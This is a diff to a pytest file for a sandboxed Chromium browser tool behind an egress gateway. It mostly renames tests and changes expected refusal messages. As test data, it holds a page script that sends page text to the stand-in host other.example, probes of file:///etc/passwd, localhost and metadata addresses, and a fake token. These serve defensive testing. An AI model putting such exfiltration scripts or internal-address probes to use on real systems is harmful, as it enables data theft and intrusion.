@@ -1,4 +1,4 @@
-"""browser.open_url: a real Chromium without a network, whose page gets what the gateway lets through."""
+"""browser.open_url: a real Chromium without network access, whose requests go through the gateway."""
 
 from __future__ import annotations
 
@@ -66,7 +66,7 @@ Promise.all(tried.map(([name, run]) => run().then(() => name + " YES", () => nam
 @needs_browser
 @needs_seccomp
 @needs_landlock
-def test_a_page_runs_its_scripts_and_reaches_nothing_but_public_hosts(web: Web) -> None:
+def test_page_runs_scripts_and_reaches_only_public_hosts(web: Web) -> None:
     port = web.server.port
     web.pages |= {
         "https://example.com/": page(HOSTILE % (port, port)),
@@ -79,7 +79,7 @@ def test_a_page_runs_its_scripts_and_reaches_nothing_but_public_hosts(web: Web) 
     assert found["url"] == "https://example.com/" and found["status"] == 200 and "before" in said
     assert " YES" not in said.replace("public YES", "") or said.count("YES") == 1, said
     refused = {each["url"]: each["why"] for each in found["refused"]}
-    assert "10.0.0.5" in refused["https://10.0.0.5/"] and "only read" in refused["https://example.com/form"]
+    assert "10.0.0.5" in refused["https://10.0.0.5/"] and "only send GET" in refused["https://example.com/form"]
     for url in ("https://inside.example/", "https://metadata.example/", "https://both.example/"):
         assert url in refused
     assert any("127.0.0.1" in url for url in refused)
@@ -88,7 +88,7 @@ def test_a_page_runs_its_scripts_and_reaches_nothing_but_public_hosts(web: Web) 
     assert "root:" not in said
 
 
-def test_a_call_says_that_it_starts_the_browser_before_it_does(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_call_reports_progress_before_the_browser_starts(monkeypatch: pytest.MonkeyPatch) -> None:
     told: list[tuple[int, int | None, str | None]] = []
 
     def gateway() -> EgressGateway:
@@ -104,7 +104,7 @@ def test_a_call_says_that_it_starts_the_browser_before_it_does(monkeypatch: pyte
 @needs_browser
 @needs_seccomp
 @needs_landlock
-def test_a_page_that_scripts_make_is_read_and_cut_and_a_move_within_the_site_is_followed(web: Web) -> None:
+def test_scripted_page_is_truncated_and_same_site_redirects_are_followed(web: Web) -> None:
     made = (
         "<title>App</title><main></main><script>document.querySelector('main').innerText = 'made '.repeat(50)</script>"
     )
@@ -120,19 +120,19 @@ def test_a_page_that_scripts_make_is_read_and_cut_and_a_move_within_the_site_is_
 @needs_browser
 @needs_seccomp
 @needs_landlock
-def test_windows_that_a_page_opens_ask_for_nothing_and_do_not_end_it(web: Web) -> None:
+def test_windows_opened_by_a_page_send_no_requests(web: Web) -> None:
     opening = "for (let i = 0; i < 12; i++) window.open('https://other.example/' + i)"
     web.pages["https://example.com/"] = page(f"<p>here</p><script>{opening}</script>")
     found = open_url(web, "https://example.com/")
     assert found["text"] == "here" and "moved_to" not in found
-    assert {each["why"] for each in found["refused"]} <= {"a page opens no windows"}
+    assert {each["why"] for each in found["refused"]} <= {"pages cannot open windows"}
     assert {request.header("Host") for request in web.asked} == {"example.com"}
 
 
 @needs_browser
 @needs_seccomp
 @needs_landlock
-def test_a_page_that_moves_to_another_site_is_told_and_not_followed(web: Web) -> None:
+def test_redirect_to_a_different_site_is_reported_and_not_followed(web: Web) -> None:
     web.pages |= {
         "https://example.com/": page("", status=302, Location="https://other.example/landing"),
         "https://other.example/landing": page("stolen"),
@@ -145,12 +145,12 @@ def test_a_page_that_moves_to_another_site_is_told_and_not_followed(web: Web) ->
 @needs_browser
 @needs_seccomp
 @needs_landlock
-def test_a_script_that_moves_to_another_site_does_not_get_there(web: Web) -> None:
+def test_script_cannot_navigate_to_a_different_site(web: Web) -> None:
     move = "<p>here</p><script>location.href = 'https://other.example/?' + document.body.innerText</script>"
     web.pages |= {"https://example.com/": page(move), "https://other.example/": page("stolen")}
     try:
         found = open_url(web, "https://example.com/")
-    except ToolError:  # the page went before it could be read
+    except ToolError:  # the page navigated before it could be read
         found = {}
     assert "stolen" not in str(found)
     assert {request.header("Host") for request in web.asked} == {"example.com"}
@@ -159,16 +159,14 @@ def test_a_script_that_moves_to_another_site_does_not_get_there(web: Web) -> Non
 @needs_browser
 @needs_seccomp
 @needs_landlock
-def test_a_page_that_never_ends_is_ended_with_its_browser(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_page_that_never_loads_ends_with_its_browser(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(_browser, "PAGE_SECONDS", 4.0)
     web.pages["https://example.com/"] = page("<script>for (;;) {}</script>")
     with pytest.raises((DeadlineExceededError, ToolError)):
         open_url(web, "https://example.com/")
 
 
-def test_what_is_no_public_address_is_refused_before_a_browser_is_started(
-    web: Web, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_non_public_urls_are_refused_before_the_browser_starts(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(_browser, "find_browser", lambda named: pytest.fail("a browser was looked for"))
     for url in ("file:///etc/passwd", "http://example.com/", "https://127.0.0.1/", "https://[::1]/", "about:blank",
                 "chrome://settings", "javascript:alert(1)", "data:text/html,x", "https://localhost/"):  # fmt: skip
@@ -180,7 +178,7 @@ def test_what_is_no_public_address_is_refused_before_a_browser_is_started(
     assert not web.asked
 
 
-def test_requests_and_bytes_of_a_page_are_bounded(web: Web) -> None:
+def test_requests_and_bytes_of_a_page_are_limited(web: Web) -> None:
     web.pages["https://example.com/a"] = page("a" * 5_000_000)
     traffic = PageTraffic(EgressGateway(web.network()), (), "https://example.com/", ToolContext())
     traffic.within(Lifetime(60.0))
@@ -195,7 +193,7 @@ def test_requests_and_bytes_of_a_page_are_bounded(web: Web) -> None:
     assert len(web.asked) == MAX_PAGE_REQUESTS and "requests" in traffic.refused[-1].why
 
 
-def test_a_secret_in_an_address_of_the_page_is_not_sent(web: Web) -> None:
+def test_secrets_in_page_urls_are_not_sent(web: Web) -> None:
     token = "ghp_" + "a1B2c3D4e5" * 3 + "F6g7h8"
     traffic = PageTraffic(EgressGateway(web.network()), (), "https://example.com/", ToolContext())
     traffic.within(Lifetime(60.0))
@@ -229,7 +227,7 @@ print(json.dumps({"failed": "found " + json.dumps(found)}))
 @needs_browser
 @needs_seccomp
 @needs_landlock
-def test_what_runs_the_page_has_no_socket_no_file_of_the_users_and_no_environment(
+def test_browser_process_has_no_sockets_user_files_or_environment(
     web: Web, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     kept = tmp_path / "kept"
@@ -243,8 +241,8 @@ def test_what_runs_the_page_has_no_socket_no_file_of_the_users_and_no_environmen
         open_url(web, "https://example.com/")
 
 
-def test_without_playwright_or_a_browser_the_step_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    with pytest.raises(ToolError, match="where"):
+def test_missing_playwright_or_browser_error_suggests_a_fix(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    with pytest.raises(ToolError, match="there is no browser at"):
         find_browser(tmp_path / "nothing")
     monkeypatch.setenv("HOME", str(tmp_path))
     (tmp_path / "headless_shell").touch()
